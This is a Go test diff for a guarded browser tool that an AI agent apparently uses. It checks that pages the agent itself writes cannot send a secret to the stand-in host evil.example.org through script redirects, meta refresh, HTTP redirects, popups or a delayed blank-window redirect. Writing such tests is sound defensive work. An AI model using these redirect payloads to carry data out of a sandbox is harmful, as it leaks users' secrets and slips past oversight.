@@ -410,3 +410,68 @@ func TestActions(t *testing.T) {
 	}
 	g.must("browser_file_upload", nil)
 }
+
+// TestWorkspaceLeadsNowhere: a page that the agent wrote leads the browser to a public address, with what it knows in it. No
+// such request is made, whichever way it goes about it; and pages of the web have their whole network when it is closed.
+func TestWorkspaceLeadsNowhere(t *testing.T) {
+	g := newGuarded(t)
+	g.answer = func(browser.Question) bool { return true }
+	var mu sync.Mutex
+	seen := map[string]int{}
+	hits := func(host string) int {
+		mu.Lock()
+		defer mu.Unlock()
+		return seen[host]
+	}
+	count := func(host string) {
+		mu.Lock()
+		defer mu.Unlock()
+		seen[host]++
+	}
+	g.web.HandleFunc("evil.example.org/", func(http.ResponseWriter, *http.Request) { count("evil") })
+	g.web.HandleFunc("cdn.example.org/", func(http.ResponseWriter, *http.Request) { count("cdn") })
+	page(g.web, "shop.example.org/{$}", `<h1>Shop</h1><img src="http://cdn.example.org/x.png"><img src="http://evil.example.org/warm.png">`)
+	const out = `http://evil.example.org/?secret`
+	page(g.app, "/script", `<h1>Mine</h1><script>location = '`+out+`'</script>`)
+	page(g.app, "/refresh", `<h1>Mine</h1><meta http-equiv=refresh content="0;url=`+out+`">`)
+	page(g.app, "/popup", `<button onclick="window.open('`+out+`')">Open</button>`)
+	page(g.app, "/blank", `<button onclick="const w = window.open('about:blank'); w.setInterval('location = \''+'`+out+`'+'\'', 2000); location = 'http://shop.example.org/'">Open</button>`)
+	page(g.app, "/link", `<a href="http://shop.example.org/">To the shop</a>`)
+	g.app.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, out, http.StatusFound) })
+
+	g.must("browser_navigate", map[string]any{"url": "http://shop.example.org/"})
+	if hits("cdn") != 1 || hits("evil") != 1 {
+		t.Fatalf("a page of the web does not load what it wants: %v", seen)
+	}
+	for _, at := range []string{"script", "refresh", "redirect"} {
+		g.call("browser_navigate", map[string]any{"url": "http://app.workspace.invalid/" + at})
+		g.call("browser_wait_for", map[string]any{"time": 1})
+	}
+	for _, at := range []string{"popup", "blank"} {
+		g.must("browser_navigate", map[string]any{"url": "http://app.workspace.invalid/" + at})
+		if text, failed := g.act("browser_click", `button "Open"`, nil); failed {
+			t.Fatal(text)
+		}
+		g.call("browser_snapshot", nil)
+		g.call("browser_wait_for", map[string]any{"time": 3})
+	}
+	if hits("evil") != 1 {
+		t.Errorf("the workspace's pages led the browser away %d times", hits("evil")-1)
+	}
+	for range 4 { // all but one
+		g.call("browser_tabs", map[string]any{"action": "close", "index": 1})
+	}
+	g.must("browser_navigate", map[string]any{"url": "http://app.workspace.invalid/link"})
+	if text, failed := g.act("browser_click", `link "To the shop"`, nil); failed || !strings.Contains(text, "shop.example.org") {
+		t.Error(text)
+	}
+	find(t, g.must("browser_snapshot", nil), "(Shop)")
+	before := hits("cdn")
+	g.must("browser_navigate", map[string]any{"url": "http://app.workspace.invalid/link"})
+	if text := g.must("browser_navigate", map[string]any{"url": "http://shop.example.org/"}); strings.Contains(text, "While a page of the workspace is open") {
+		t.Error(text)
+	}
+	if hits("cdn") == before {
+		t.Error("the shop's pictures were not loaded after the workspace's page was left")
+	}
+}
